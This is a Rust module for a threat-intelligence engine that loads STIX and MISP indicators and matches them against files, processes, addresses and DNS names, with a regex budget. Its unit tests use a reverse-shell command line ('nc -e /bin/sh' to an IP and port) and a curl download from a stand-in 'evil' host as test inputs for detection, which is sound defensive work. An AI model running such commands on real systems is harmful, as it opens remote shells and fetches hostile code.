//! Shared threat intelligence: indicators imported from STIX 2.1 and MISP, carried in bundles as
//! JSON lines (`*.jsonl`), one indicator per line, each with where it came from:
//!
//! ```text
//! {"source":"stix","id":"indicator--…","origin":"https://taxii.example/api/collections/…/",
//!  "name":"…","description":"…","score":90,"techniques":["T1505.003"],
//!  "valid_until_ms":1790000000000,"pattern_type":"stix","pattern":"[file:name = 'x']"}
//! {"source":"misp","id":"<attribute uuid>","event":"<event uuid>","origin":"<feed>", …}
//! ```
//!
//! `pattern_type` is `stix` (see [`crate::stix`] for what is evaluated) or `yara` (the pattern
//! is YARA source, compiled with the other rules in a namespace of its own). A line that does
//! not parse, or a pattern that cannot be evaluated, is reported with its line and the reason;
//! the rest loads. An indicator past its `valid_until_ms` matches nothing.

use std::collections::HashMap;
use std::net::IpAddr;
use std::path::Path;
use std::sync::Arc;

use serde::Deserialize;

use crate::ParseError;
use crate::domains::Reach;
use crate::rules::{IndicatorRef, MatchKind, Origin, Problem, ProblemKind, RuleMatch};
use crate::stix::{self, Field, Subject, Test};

/// A line longer than this is refused.
pub const MAX_LINE_BYTES: usize = 256 * 1024;

/// One line of an intel file.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct IntelLine {
    /// `stix` or `misp`.
    pub source: String,
    /// The STIX indicator id, or the MISP attribute UUID.
    pub id: String,
    /// The MISP event UUID (empty for STIX).
    #[serde(default)]
    pub event: String,
    /// The TAXII collection URL, the feed, or the file it was imported from.
    #[serde(default)]
    pub origin: String,
    #[serde(default)]
    pub name: String,
    #[serde(default)]
    pub description: String,
    #[serde(default)]
    pub score: Option<u32>,
    #[serde(default)]
    pub techniques: Vec<String>,
    #[serde(default)]
    pub valid_until_ms: Option<i64>,
    /// `stix` or `yara`.
    pub pattern_type: String,
    pub pattern: String,
}

impl IntelLine {
    /// Parses one line and checks its pattern type.
    pub fn parse(line: &str) -> Result<IntelLine, ParseError> {
        if line.len() > MAX_LINE_BYTES {
            return Err(ParseError::too_long("line", line.len(), MAX_LINE_BYTES));
        }
        let l: IntelLine =
            serde_json::from_str(line).map_err(|e| format!("not an indicator line: {e}"))?;
        if l.id.trim().is_empty() {
            return Err("indicator without an id".into());
        }
        if !matches!(l.pattern_type.as_str(), "stix" | "yara") {
            return Err(format!(
                "{}: pattern type `{}` is not evaluated (stix or yara)",
                l.id, l.pattern_type
            )
            .into());
        }
        Ok(l)
    }

    pub fn reference(&self) -> IndicatorRef {
        IndicatorRef {
            source: self.source.clone(),
            id: self.id.clone(),
            event: self.event.clone(),
            origin: self.origin.clone(),
            techniques: self.techniques.clone(),
        }
    }

    /// The line as JSON: fields in a fixed order, empty ones left out.
    pub fn to_json(&self) -> String {
        let mut v = serde_json::Map::new();
        v.insert("source".into(), self.source.clone().into());
        v.insert("id".into(), self.id.clone().into());
        for (k, val) in [
            ("event", &self.event),
            ("origin", &self.origin),
            ("name", &self.name),
            ("description", &self.description),
        ] {
            if !val.is_empty() {
                v.insert(k.into(), val.clone().into());
            }
        }
        if let Some(s) = self.score {
            v.insert("score".into(), s.into());
        }
        if !self.techniques.is_empty() {
            v.insert("techniques".into(), self.techniques.clone().into());
        }
        if let Some(t) = self.valid_until_ms {
            v.insert("valid_until_ms".into(), t.into());
        }
        v.insert("pattern_type".into(), self.pattern_type.clone().into());
        v.insert("pattern".into(), self.pattern.clone().into());
        serde_json::Value::Object(v).to_string()
    }

    /// What a detection by this indicator is called.
    pub fn title(&self) -> &str {
        if self.name.trim().is_empty() {
            &self.id
        } else {
            &self.name
        }
    }
}

/// Default score of an imported indicator that names none.
const INTEL_SCORE: u32 = 90;

struct Indicator {
    reference: Arc<IndicatorRef>,
    title: String,
    description: String,
    score: u32,
    valid_until_ms: Option<i64>,
    /// `file:line` of the indicator in its intel file.
    source: String,
}

enum Check {
    Equals(Vec<String>),
    Network(Vec<(IpAddr, u8)>),
    Regex(regex::Regex),
}

struct Conj {
    indicator: usize,
    tests: Vec<(Field, Check)>,
}

/// What a file offers to comparisons.
pub struct FileFacts<'a> {
    pub name: &'a str,
    pub md5: Option<&'a str>,
    pub sha1: Option<&'a str>,
    pub sha256: Option<&'a str>,
}

/// Every imported indicator with a STIX pattern, indexed for matching.
#[derive(Default)]
pub struct Intel {
    indicators: Vec<Indicator>,
    conjs: Vec<Conj>,
    /// File alternatives by a hash they require (md5, sha1, sha256).
    by_hash: [HashMap<String, Vec<usize>>; 3],
    /// File alternatives with no hash, by the exact name they require.
    by_name: HashMap<String, Vec<usize>>,
    /// File alternatives with neither (name patterns).
    file_scan: Vec<usize>,
    process: Vec<usize>,
    by_address: HashMap<IpAddr, Vec<usize>>,
    networks: Vec<usize>,
    by_domain: crate::domains::DomainIndex<usize>,
    /// Domain alternatives with no equality (`LIKE`, `MATCHES`): tried on every name.
    domain_scan: Vec<usize>,
    wants: [bool; 3],
    pub loaded: usize,
    pub expired: usize,
    /// What the regular expressions compiled so far are charged (see [`REGEX_BUDGET`]).
    regex_bytes: usize,
}

/// Most bytes the STIX regular expressions (`MATCHES`, `LIKE`) of one rule set may take in all,
/// compiled. Each is charged the smallest of 16 KiB × 4ⁿ (up to [`REGEX_MAX`]) that holds it;
/// an indicator past what is left is left out on agents and refused at publish.
pub const REGEX_BUDGET: usize = 64 << 20;

/// Most bytes one STIX regular expression may take, compiled.
pub const REGEX_MAX: usize = 8 << 20;

/// Why an indicator was left out.
enum Refusal {
    Bad(ParseError),
    OverBudget(String),
}

impl From<String> for Refusal {
    fn from(e: String) -> Refusal {
        Refusal::Bad(e.into())
    }
}

impl From<ParseError> for Refusal {
    fn from(e: ParseError) -> Refusal {
        Refusal::Bad(e)
    }
}

/// Compiles `re` within `left` bytes of the budget: the regex and what it is charged.
fn compile_within(re: &str, left: usize) -> Result<(regex::Regex, usize), Refusal> {
    let mut limit = 16 << 10;
    loop {
        let cap = limit.min(REGEX_MAX);
        match regex::RegexBuilder::new(re).size_limit(cap).build() {
            Ok(r) if cap <= left => return Ok((r, cap)),
            Ok(_) => {
                return Err(Refusal::OverBudget(format!(
                    "its regular expression takes up to {} KiB compiled, past the {} KiB left of \
                     the rule set's budget for regular expressions ({} MiB in all)",
                    cap >> 10,
                    left >> 10,
                    REGEX_BUDGET >> 20
                )));
            }
            Err(regex::Error::CompiledTooBig(_)) if cap < REGEX_MAX => limit *= 4,
            Err(e) => return Err(Refusal::Bad(e.to_string().into())),
        }
    }
}

fn now_ms() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_millis() as i64)
        .unwrap_or(0)
}

/// True for an intel line whose STIX pattern compares nothing but file hashes, for equality:
/// what it matches is answered by a file's digests alone.
pub fn hash_only(line: &str) -> bool {
    let Ok(l) = IntelLine::parse(line) else {
        return false;
    };
    if l.pattern_type != "stix" {
        return false;
    }
    let Ok(p) = stix::parse(&l.pattern) else {
        return false;
    };
    p.alternatives
        .iter()
        .flatten()
        .all(|c| hash_slot(c.field).is_some() && matches!(c.test, Test::Equals(_)))
}

fn hash_slot(f: Field) -> Option<usize> {
    match f {
        Field::Md5 => Some(0),
        Field::Sha1 => Some(1),
        Field::Sha256 => Some(2),
        _ => None,
    }
}

impl Intel {
    /// Loads the STIX indicators of one intel file (YARA ones are compiled with the rules).
    pub fn add_file(&mut self, origin: &Path, text: &str, problems: &mut Vec<Problem>) {
        let name = origin.to_string_lossy();
        let now = now_ms();
        for (i, line) in text.lines().enumerate() {
            let line = line.trim();
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            let source = format!("{name}:{}", i + 1);
            let result = IntelLine::parse(line).map_err(Refusal::Bad).and_then(|l| {
                if l.pattern_type != "stix" {
                    return Ok(());
                }
                if l.valid_until_ms.is_some_and(|t| t <= now) {
                    self.expired += 1;
                    return Ok(());
                }
                let pattern = stix::parse(&l.pattern).map_err(|e| format!("{}: {e}", l.id))?;
                self.add(&l, pattern, source)
            });
            let (reason, kind) = match result {
                Ok(()) => continue,
                Err(Refusal::Bad(e)) => (e.to_string(), ProblemKind::Indicator),
                Err(Refusal::OverBudget(why)) => (why, ProblemKind::Budget),
            };
            problems.push(Problem {
                path: origin.to_owned(),
                line: Some(i + 1),
                reason,
                kind,
                origin: Origin::Local,
            });
        }
    }

    fn add(
        &mut self,
        l: &IntelLine,
        pattern: stix::Pattern,
        source: String,
    ) -> Result<(), Refusal> {
        let index = self.indicators.len();
        let mut conjs = Vec::new();
        let mut charged = 0;
        for alt in pattern.alternatives {
            let mut tests = Vec::new();
            for c in alt {
                let check = match c.test {
                    Test::Equals(v) => Check::Equals(v),
                    Test::Network(n) => Check::Network(n),
                    Test::Regex(r) => {
                        let left = REGEX_BUDGET.saturating_sub(self.regex_bytes + charged);
                        let (re, cost) = compile_within(&r, left).map_err(|e| match e {
                            Refusal::Bad(e) => Refusal::Bad(format!("{}: {e}", l.id).into()),
                            Refusal::OverBudget(why) => {
                                Refusal::OverBudget(format!("{}: {why}", l.id))
                            }
                        })?;
                        charged += cost;
                        Check::Regex(re)
                    }
                };
                tests.push((c.field, check));
            }
            conjs.push(tests);
        }
        self.regex_bytes += charged;
        for tests in conjs {
            let at = self.conjs.len();
            match tests[0].0.subject() {
                Subject::File => self.index_file(at, &tests),
                Subject::Process => self.process.push(at),
                Subject::Network => self.index_network(at, &tests),
                Subject::Domain => self.index_domain(at, &tests, reach_of(&l.source)),
            }
            self.conjs.push(Conj {
                indicator: index,
                tests,
            });
        }
        self.indicators.push(Indicator {
            reference: Arc::new(l.reference()),
            title: l.title().to_string(),
            description: l.description.clone(),
            score: l.score.unwrap_or(INTEL_SCORE).min(100),
            valid_until_ms: l.valid_until_ms,
            source,
        });
        self.loaded += 1;
        Ok(())
    }

    /// A file conjunction `at`: indexed by a hash it tests for equality, else by a file name,
    /// else tried on every file; the digests it tests are wanted.
    fn index_file(&mut self, at: usize, tests: &[(Field, Check)]) {
        let hash = tests.iter().find_map(|(f, c)| match (hash_slot(*f), c) {
            (Some(s), Check::Equals(v)) => Some((s, v)),
            _ => None,
        });
        let name = tests.iter().find_map(|(f, c)| match (f, c) {
            (Field::FileName, Check::Equals(v)) => Some(v),
            _ => None,
        });
        if let Some((slot, values)) = hash {
            for v in values {
                self.by_hash[slot].entry(v.clone()).or_default().push(at);
            }
        } else if let Some(values) = name {
            for v in values {
                self.by_name.entry(v.clone()).or_default().push(at);
            }
        } else {
            self.file_scan.push(at);
        }
        for (f, _) in tests {
            if let Some(s) = hash_slot(*f) {
                self.wants[s] = true;
            }
        }
    }

    /// A network conjunction `at`: indexed by address when it names whole addresses, else
    /// tried on every connection.
    fn index_network(&mut self, at: usize, tests: &[(Field, Check)]) {
        let exact = tests.iter().find_map(|(_, c)| match c {
            Check::Network(n) if n.iter().all(|(ip, b)| full(*ip, *b)) => Some(n),
            _ => None,
        });
        match exact {
            Some(n) => {
                for (ip, _) in n {
                    self.by_address.entry(*ip).or_default().push(at);
                }
            }
            None => self.networks.push(at),
        }
    }

    /// A domain conjunction `at`: indexed by the names its first equality test gives, with
    /// their subdomains for a MISP `domain` or `hostname` (exact for STIX `=`).
    fn index_domain(&mut self, at: usize, tests: &[(Field, Check)], reach: Reach) {
        for (_, c) in tests {
            if let Check::Equals(v) = c {
                for d in v {
                    self.by_domain.insert(d, reach, at);
                }
                return;
            }
        }
        self.domain_scan.push(at);
    }

    /// How far the domains of conjunction `at` reach.
    fn reach(&self, at: usize) -> Reach {
        reach_of(&self.indicators[self.conjs[at].indicator].reference.source)
    }

    pub fn is_empty(&self) -> bool {
        self.indicators.is_empty()
    }
    pub fn wants_md5(&self) -> bool {
        self.wants[0]
    }
    pub fn wants_sha1(&self) -> bool {
        self.wants[1]
    }
    pub fn wants_sha256(&self) -> bool {
        self.wants[2]
    }
    pub fn has_files(&self) -> bool {
        self.wants.iter().any(|w| *w) || !self.by_name.is_empty() || !self.file_scan.is_empty()
    }
    pub fn has_processes(&self) -> bool {
        !self.process.is_empty() || self.has_domains()
    }
    pub fn has_addresses(&self) -> bool {
        !self.by_address.is_empty() || !self.networks.is_empty()
    }

    /// Indicators matching a file.
    pub fn match_file(&self, facts: &FileFacts<'_>, out: &mut Vec<RuleMatch>) {
        let mut candidates: Vec<usize> = self.file_scan.clone();
        for (slot, digest) in [facts.md5, facts.sha1, facts.sha256]
            .into_iter()
            .enumerate()
        {
            if let Some(c) = digest.and_then(|d| self.by_hash[slot].get(d)) {
                candidates.extend(c);
            }
        }
        if let Some(c) = self.by_name.get(facts.name) {
            candidates.extend(c);
        }
        self.emit(candidates, out, |_, field, check| {
            let value = match field {
                Field::FileName => Some(facts.name),
                Field::Md5 => facts.md5,
                Field::Sha1 => facts.sha1,
                Field::Sha256 => facts.sha256,
                _ => None,
            };
            value.is_some_and(|v| text_check(check, v))
        });
    }

    /// Indicators matching a process by its name and command line, and domains its command
    /// line names.
    pub fn match_process(&self, name: &str, cmdline: &str, out: &mut Vec<RuleMatch>) {
        let mut candidates = self.process.clone();
        let domains: Vec<String> = if !self.has_domains() {
            Vec::new()
        } else {
            domain_tokens(cmdline).collect()
        };
        for token in &domains {
            candidates.extend(self.by_domain.lookup(token));
        }
        if !domains.is_empty() {
            candidates.extend(&self.domain_scan);
        }
        self.emit(candidates, out, |at, field, check| match field {
            Field::ProcessName => text_check(check, name),
            Field::CommandLine => text_check(check, cmdline),
            Field::Domain => domains
                .iter()
                .any(|d| domain_check(check, d, self.reach(at))),
            _ => false,
        });
    }

    /// Whether any indicator names a domain.
    pub fn has_domains(&self) -> bool {
        !self.by_domain.is_empty() || !self.domain_scan.is_empty()
    }

    /// Domain indicators matching a name asked in a DNS query (`name` normalised: lowercase,
    /// no trailing dot, punycode).
    pub fn match_domain(&self, name: &str, out: &mut Vec<RuleMatch>) {
        if !self.has_domains() {
            return;
        }
        let mut candidates = self.domain_scan.clone();
        candidates.extend(self.by_domain.lookup_normal(name));
        self.emit(candidates, out, |at, field, check| match field {
            Field::Domain => domain_check(check, name, self.reach(at)),
            _ => false,
        });
    }

    /// Indicators matching a remote address.
    pub fn match_address(&self, ip: IpAddr, out: &mut Vec<RuleMatch>) {
        let mut candidates = self.networks.clone();
        if let Some(c) = self.by_address.get(&ip) {
            candidates.extend(c);
        }
        self.emit(candidates, out, |_, field, check| match (field, check) {
            (Field::Address, Check::Network(nets)) => {
                nets.iter().any(|(n, b)| crate::ioc::in_network(ip, *n, *b))
            }
            _ => false,
        });
    }

    /// Checks each candidate alternative whole; one match per indicator.
    fn emit(
        &self,
        mut candidates: Vec<usize>,
        out: &mut Vec<RuleMatch>,
        test: impl Fn(usize, Field, &Check) -> bool,
    ) {
        candidates.sort_unstable();
        candidates.dedup();
        let now = now_ms();
        let mut done: Vec<usize> = Vec::new();
        for at in candidates {
            let conj = &self.conjs[at];
            if done.contains(&conj.indicator) || !conj.tests.iter().all(|(f, c)| test(at, *f, c)) {
                continue;
            }
            let ind = &self.indicators[conj.indicator];
            if ind.valid_until_ms.is_some_and(|t| t <= now) {
                continue;
            }
            done.push(conj.indicator);
            let kind = match conj.tests[0].0.subject() {
                Subject::File if conj.tests.iter().any(|(f, _)| hash_slot(*f).is_some()) => {
                    MatchKind::Hash
                }
                Subject::File => MatchKind::Filename,
                Subject::Process | Subject::Domain => MatchKind::Process,
                Subject::Network => MatchKind::Connection,
            };
            out.push(RuleMatch {
                kind,
                rule: ind.title.clone(),
                source: ind.source.clone(),
                score: ind.score,
                description: ind.description.clone(),
                author: String::new(),
                reference: String::new(),
                indicator: ind.reference.clone(),
            });
        }
    }
}

fn full(ip: IpAddr, bits: u8) -> bool {
    bits == if ip.is_ipv4() { 32 } else { 128 }
}

fn text_check(check: &Check, value: &str) -> bool {
    match check {
        Check::Equals(v) => v.iter().any(|x| x == value),
        Check::Regex(r) => r.is_match(value),
        Check::Network(_) => false,
    }
}

/// How far the domains of an indicator from `source` reach: MISP's `domain` and `hostname`
/// cover subdomains; STIX's `=` is exact.
fn reach_of(source: &str) -> Reach {
    match source {
        "misp" => Reach::AndSubdomains,
        _ => Reach::Exact,
    }
}

/// Whether a domain name passes a test: an equality with a listed name or, where the listing
/// reaches subdomains, with a domain above it; a pattern on the name itself.
fn domain_check(check: &Check, name: &str, reach: Reach) -> bool {
    match (check, reach) {
        (Check::Equals(listed), Reach::AndSubdomains) => {
            let Some(name) = crate::domains::normalise(name) else {
                return false;
            };
            listed
                .iter()
                .filter_map(|l| crate::domains::normalise(l))
                .any(|l| name == l || name.ends_with(&format!(".{l}")))
        }
        _ => text_check(check, name),
    }
}

/// Lowercased words of a command line that look like domain names (URLs included).
pub(crate) fn domain_tokens(cmdline: &str) -> impl Iterator<Item = String> + '_ {
    cmdline
        .split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_')))
        .map(|t| t.trim_matches('.').to_ascii_lowercase())
        .filter(|t| stix::is_domain(t) && t.chars().any(|c| c.is_ascii_alphabetic()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn load(lines: &[String]) -> (Intel, Vec<Problem>) {
        let mut intel = Intel::default();
        let mut problems = Vec::new();
        intel.add_file(Path::new("intel/x.jsonl"), &lines.join("\n"), &mut problems);
        (intel, problems)
    }

    fn line(id: &str, pattern: &str) -> String {
        serde_json::json!({
            "source": "stix", "id": id, "origin": "https://taxii.example/c/",
            "pattern_type": "stix", "pattern": pattern, "techniques": ["T1505.003"],
        })
        .to_string()
    }

    /// STIX `=` names one domain exactly; a MISP `domain` or `hostname` covers its subdomains.
    #[test]
    fn domains_reach_subdomains_by_source() {
        let misp = serde_json::json!({
            "source": "misp", "id": "7b1c2d3e-0000-4000-8000-000000000001",
            "origin": "feed", "pattern_type": "stix",
            "pattern": "[domain-name:value = 'c2.misp.example']",
        })
        .to_string();
        let (intel, problems) = load(&[
            line("indicator--s", "[domain-name:value = 'c2.stix.example']"),
            misp,
        ]);
        assert!(problems.is_empty(), "{problems:?}");
        let hits = |cmdline: &str| {
            let mut out = Vec::new();
            intel.match_process("curl", cmdline, &mut out);
            out.iter()
                .map(|m| m.indicator.id.clone())
                .collect::<Vec<_>>()
        };
        assert_eq!(hits("curl https://c2.stix.example/"), ["indicator--s"]);
        assert!(hits("curl https://a.c2.stix.example/").is_empty());
        let misp_id = "7b1c2d3e-0000-4000-8000-000000000001";
        assert_eq!(hits("curl https://C2.misp.example/"), [misp_id]);
        assert_eq!(hits("curl https://a.b.c2.misp.example/"), [misp_id]);
        assert!(hits("curl https://xc2.misp.example/").is_empty());
        // Names asked in DNS queries follow the same reach.
        let asked = |name: &str| asked(&intel, name);
        assert_eq!(asked("c2.stix.example"), ["indicator--s"]);
        assert!(asked("a.c2.stix.example").is_empty());
        assert_eq!(asked("a.b.c2.misp.example"), [misp_id]);
        assert!(asked("xc2.misp.example").is_empty());
    }

    /// The ids of the indicators a name asked in a DNS query matches.
    fn asked(intel: &Intel, name: &str) -> Vec<String> {
        let mut out = Vec::new();
        intel.match_domain(name, &mut out);
        out.iter().map(|m| m.indicator.id.clone()).collect()
    }

    /// `LIKE` and `MATCHES` on a domain name are tried on every name asked.
    #[test]
    fn domain_patterns_match_names_asked() {
        let (intel, problems) = load(&[
            line("indicator--l", "[domain-name:value LIKE '%.dyn.example']"),
            line(
                "indicator--m",
                "[domain-name:value MATCHES '^x[0-9]+[.]bad[.]example$']",
            ),
        ]);
        assert!(problems.is_empty(), "{problems:?}");
        assert!(intel.has_domains());
        let asked = |name: &str| asked(&intel, name);
        assert_eq!(asked("host.dyn.example"), ["indicator--l"]);
        assert_eq!(asked("x42.bad.example"), ["indicator--m"]);
        assert!(asked("dyn.example.org").is_empty());
        assert!(asked("y42.bad.example").is_empty());
    }

    #[test]
    fn files_processes_addresses_and_domains_match_with_provenance() {
        let sha = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
        let (intel, problems) = load(&[
            line(
                "indicator--a",
                &format!("[file:hashes.'SHA-256' = '{sha}']"),
            ),
            line(
                "indicator--b",
                "[file:name = 'evil.sh' AND file:hashes.MD5 = 'd41d8cd98f00b204e9800998ecf8427e']",
            ),
            line(
                "indicator--c",
                "[ipv4-addr:value = '198.51.100.0/24'] OR [ipv6-addr:value = '2001:db8::1']",
            ),
            line(
                "indicator--d",
                "[process:command_line MATCHES 'nc -e /bin/sh']",
            ),
            line("indicator--e", "[domain-name:value = 'evil.example']"),
            line(
                "indicator--f",
                "[file:name = 'a'] FOLLOWEDBY [file:name = 'b']",
            ),
        ]);
        assert_eq!(problems.len(), 1, "{problems:?}");
        assert!(
            problems[0].reason.starts_with("indicator--f: FOLLOWEDBY"),
            "{}",
            problems[0]
        );
        assert_eq!(intel.loaded, 5);
        assert!(intel.wants_sha256() && intel.wants_md5() && !intel.wants_sha1());

        let mut out = Vec::new();
        intel.match_file(
            &FileFacts {
                name: "evil.sh",
                md5: Some("d41d8cd98f00b204e9800998ecf8427e"),
                sha1: None,
                sha256: Some(sha),
            },
            &mut out,
        );
        let ids: Vec<_> = out.iter().map(|m| m.indicator.id.as_str()).collect();
        assert_eq!(ids, ["indicator--a", "indicator--b"]);
        assert_eq!(out[0].indicator.origin, "https://taxii.example/c/");
        assert_eq!(out[0].indicator.techniques, ["T1505.003"]);
        assert_eq!(out[0].source, "intel/x.jsonl:1");
        out.clear();
        intel.match_file(
            &FileFacts {
                name: "other.sh",
                md5: Some("d41d8cd98f00b204e9800998ecf8427e"),
                sha1: None,
                sha256: None,
            },
            &mut out,
        );
        assert!(out.is_empty(), "AND needs the name too");

        intel.match_address("198.51.100.7".parse().unwrap(), &mut out);
        intel.match_address("2001:db8::1".parse().unwrap(), &mut out);
        intel.match_address("198.51.101.7".parse().unwrap(), &mut out);
        assert_eq!(out.len(), 2);
        assert!(
            out.iter()
                .all(|m| m.kind == MatchKind::Connection && m.indicator.id == "indicator--c")
        );
        out.clear();

        intel.match_process(
            "bash",
            "curl -s https://EVIL.example/x.sh -o /tmp/x",
            &mut out,
        );
        intel.match_process("sh", "nc -e /bin/sh 10.0.0.1 4444", &mut out);
        intel.match_process("sh", "curl https://notevil.example/", &mut out);
        let ids: Vec<_> = out.iter().map(|m| m.indicator.id.as_str()).collect();
        assert_eq!(ids, ["indicator--e", "indicator--d"]);
    }

    #[test]
    fn expired_and_malformed_lines() {
        let mut expired: serde_json::Value =
            serde_json::from_str(&line("indicator--old", "[file:name = 'x']")).unwrap();
        expired["valid_until_ms"] = 1_000.into();
        let (intel, problems) = load(&[
            expired.to_string(),
            "{not json".into(),
            r#"{"source":"stix","id":"i","pattern_type":"sigma","pattern":"x"}"#.into(),
            r#"{"source":"stix","id":"i","pattern_type":"stix","pattern":"x","extra":1}"#.into(),
        ]);
        assert_eq!((intel.loaded, intel.expired), (0, 1));
        assert_eq!(problems.len(), 3, "{problems:?}");
        assert_eq!(problems[1].line, Some(3));
        assert!(problems[1].reason.contains("sigma"));
    }

    #[test]
    fn regular_expressions_past_the_rule_sets_budget_are_refused_by_indicator() {
        // Each of these is charged 8 MiB compiled: eight fit in the 64 MiB budget.
        let lines: Vec<String> = (0..10)
            .map(|i| {
                line(
                    &format!("indicator--re-{i}"),
                    "[process:command_line MATCHES '\\\\w{100}x']",
                )
            })
            .collect();
        let (intel, problems) = load(&lines);
        assert_eq!(intel.loaded, 8, "{problems:?}");
        assert_eq!(problems.len(), 2, "{problems:?}");
        for (p, i) in problems.iter().zip([8, 9]) {
            assert_eq!(p.kind, ProblemKind::Budget);
            assert!(
                p.reason.starts_with(&format!("indicator--re-{i}: ")),
                "{}",
                p.reason
            );
            assert!(
                p.reason.contains("budget for regular expressions"),
                "{}",
                p.reason
            );
        }
        // Small ones are charged little.
        let lines: Vec<String> = (0..1000)
            .map(|i| {
                line(
                    &format!("indicator--small-{i}"),
                    "[file:name MATCHES '^x[0-9]+\\\\.exe$']",
                )
            })
            .collect();
        let (intel, problems) = load(&lines);
        assert_eq!((intel.loaded, problems.len()), (1000, 0), "{problems:?}");
    }
}
